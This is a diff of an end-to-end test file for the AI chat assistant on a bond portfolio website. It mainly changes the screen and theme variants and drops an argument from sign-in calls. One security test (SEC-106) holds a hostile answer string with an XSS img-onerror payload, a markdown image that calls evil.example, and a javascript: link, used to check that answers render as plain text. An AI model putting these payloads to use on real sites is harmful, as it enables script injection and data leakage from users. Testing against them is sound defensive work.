@@ -12,7 +12,7 @@ import { expectAccessible } from './axe.ts';
 import { startBrowser } from './browser.ts';
 import { besideTerm, readText } from './read.ts';
 import { startSite, type Site } from './site.ts';
-import { AT_THE_DESK, ON_THE_PHONE, visit, type Look } from './visit.ts';
+import { AT_THE_DESK, ON_A_DARK_PHONE, visit, type Look } from './visit.ts';
 
 let browser: Browser;
 let site: Site;
@@ -30,8 +30,6 @@ beforeAll(async () => {
   });
 });
 afterAll(() => Promise.all([browser.close(), site.stop()]));
-
-const DARK: readonly Look[] = [AT_THE_DESK, ON_THE_PHONE].map((look) => ({ ...look, theme: 'dark' }));
 
 const VALUE_QUESTION = { en: 'How much are my bonds worth?', bg: 'Колко струват облигациите ми?' } as const;
 
@@ -79,10 +77,10 @@ async function answerInstead(page: Page, answer: { status: number; content: stri
   return sent;
 }
 
-describe.each([AT_THE_DESK, ON_THE_PHONE, ...DARK])('at $width pixels, $theme, in $language', (look) => {
+describe.each([AT_THE_DESK, ON_A_DARK_PHONE])('at $width pixels, $theme, in $language', (look) => {
   test('a person asks for the value of their bonds and reads the figure of the card', async () => {
     await visit({ browser, site, look }, async ({ page }) => {
-      await signIn(page, owner, look);
+      await signIn(page, owner);
       const { texts, panel, button, log, field, send } = partsOf(page, look);
       const value = besideTerm(page, totalsTexts[look.language].portfolioValue);
       await expect.poll(() => readText(value)).toMatch(/\d/);
@@ -114,7 +112,7 @@ describe.each([AT_THE_DESK, ON_THE_PHONE, ...DARK])('at $width pixels, $theme, i
 
   test('the panel has its size and its place, and at the end of the page the button covers nothing', async () => {
     await visit({ browser, site, look }, async ({ page }) => {
-      await signIn(page, owner, look);
+      await signIn(page, owner);
       const { panel, button, log } = partsOf(page, look);
       await page.getByText('BG2030026111').first().waitFor();
       // The list grows while its rows are measured: what was its end is none any more, and the button has left.
@@ -145,7 +143,7 @@ describe.each([AT_THE_DESK, ON_THE_PHONE, ...DARK])('at $width pixels, $theme, i
 
 test('Shift+Enter begins a new line; nothing is sent while an answer is awaited', async () => {
   await visit({ browser, site }, async ({ page }) => {
-    await signIn(page, owner, AT_THE_DESK);
+    await signIn(page, owner);
     const { texts, button, log, field, send } = partsOf(page, AT_THE_DESK);
     let answer: () => void = () => undefined;
     let questions = 0;
@@ -174,7 +172,7 @@ test('Shift+Enter begins a new line; nothing is sent while an answer is awaited'
 
 test('a failure ends in an apology, which is not sent back; the last 8 messages are sent', async () => {
   await visit({ browser, site }, async ({ page, expectRefusal }) => {
-    await signIn(page, owner, AT_THE_DESK);
+    await signIn(page, owner);
     const { texts, button, log, field } = partsOf(page, AT_THE_DESK);
     // Stays until another one is put before it: without any, the browser may forget the script that is asked for meanwhile.
     await page.route('**/api/ai/chat', (route) => route.fulfill({ status: 500, body: 'broken' }));
@@ -213,7 +211,7 @@ test('a failure ends in an apology, which is not sent back; the last 8 messages 
 test('answers are text and nothing else (SEC-106)', async () => {
   const hostile = '<img src=x onerror=alert(1)> ![x](https://evil.example/?d=1) [a](javascript:alert(1))';
   await visit({ browser, site }, async ({ page }) => {
-    await signIn(page, owner, AT_THE_DESK);
+    await signIn(page, owner);
     const { button, log, field } = partsOf(page, AT_THE_DESK);
     await answerInstead(page, { status: 200, content: hostile });
     await button.click();
@@ -226,7 +224,7 @@ test('answers are text and nothing else (SEC-106)', async () => {
 
 test('hidden amounts are hidden in answers, too', async () => {
   await visit({ browser, site }, async ({ page }) => {
-    await signIn(page, owner, AT_THE_DESK);
+    await signIn(page, owner);
     const { button, log, field } = partsOf(page, AT_THE_DESK);
     await page.getByRole('button', { name: layoutTexts.en.hideAmounts }).click();
     await button.click();
@@ -242,7 +240,7 @@ test('an administrator, and who is not signed in, has no assistant', async () =>
     await page.goto('/contacts');
     await page.getByRole('heading', { level: 1 }).waitFor();
     expect(await page.locator('#assistant').count()).toBe(0);
-    await signIn(page, administrator, AT_THE_DESK);
+    await signIn(page, administrator);
     await page.getByRole('heading', { level: 1 }).waitFor();
     expect(await page.locator('#assistant').count()).toBe(0);
   });
